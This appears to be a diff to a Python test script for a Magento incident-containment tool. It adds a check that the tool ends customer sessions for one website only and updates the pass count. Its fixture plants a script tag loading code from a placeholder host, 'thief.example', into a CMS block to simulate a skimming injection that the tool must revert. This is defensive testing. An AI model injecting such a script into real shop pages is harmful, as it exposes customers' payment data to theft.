@@ -33,6 +33,7 @@ insert into mg_admin_user (user_id, username, is_active, created, modified) valu
 insert into mg_admin_user_session (user_id, status, updated_at) values (7, 1, '2026-02-03'), (8, 1, '2026-02-03');
 insert into mg_integration (name, status, consumer_id, updated_at) values ('ERP', 1, 4, '2026-02-03');
 insert into mg_oauth_token (consumer_id, admin_id, type, token, revoked) values (4, null, 'access', 'a', 0), (null, 7, 'access', 'd', 0);
+insert into mg_customer_entity (website_id, email, updated_at) values (1, 'a@example.com', '2026-02-03'), (2, 'b@example.com', '2026-02-03');
 update mg_core_config_data set updated_at = '2026-02-03';
 update mg_cms_block set content = '<script src="//thief.example/x.js"></script>', update_time = '2026-02-03';
 """
@@ -150,6 +151,12 @@ def main():
         poisoned = lambda: "thief.example" in shop.ask("de.shop.test", "/checkout/")[2]
         bought += at.contained(["revert_row", "row=cms_block:1"], poisoned)
 
+        # The stand-in logs no customers in: looked at is what Magento goes by.
+        runs = one("select count(*) from shop.mg_customer_entity where website_id = 2 and session_cutoff is null")
+        bought += at.contained(["end_customer_sessions", "website=second"], runs, stays={"mg_customer_entity"})
+        kept = shop.sql("select website_id, session_cutoff is null, updated_at from shop.mg_customer_entity order by 1").split("\n")[:2]
+        need(kept == ["1\t1\t2026-02-03 00:00:00", "2\t0\t2026-02-03 00:00:00"], "another website's customers and the times of change are as before", kept)
+
         at.refused(["lock_database_account", "account=shop@localhost"], "the shop itself logs in")
         at.refused(["lock_database_account", "account=containment@localhost"], "magewarden itself")
         at.refused(["end_connections", "account=containment@localhost"], "magewarden itself")
@@ -169,7 +176,7 @@ def main():
         need(done.returncode == 1 and time.monotonic() - begun < 14, "a lock is waited for a few seconds", done.stdout + done.stderr)
         holder.stdin.close()
         holder.wait(10)
-        print(f"13 passed, 0 failed (the contract of actions, 7 attacks contained and taken back, 5 refusals; {bought} checkouts meanwhile)")
+        print(f"15 passed, 0 failed (the contract of actions, 8 attacks contained and taken back, 5 refusals, a lock that isn't given; {bought} checkouts meanwhile)")
 
 
 if __name__ == "__main__":
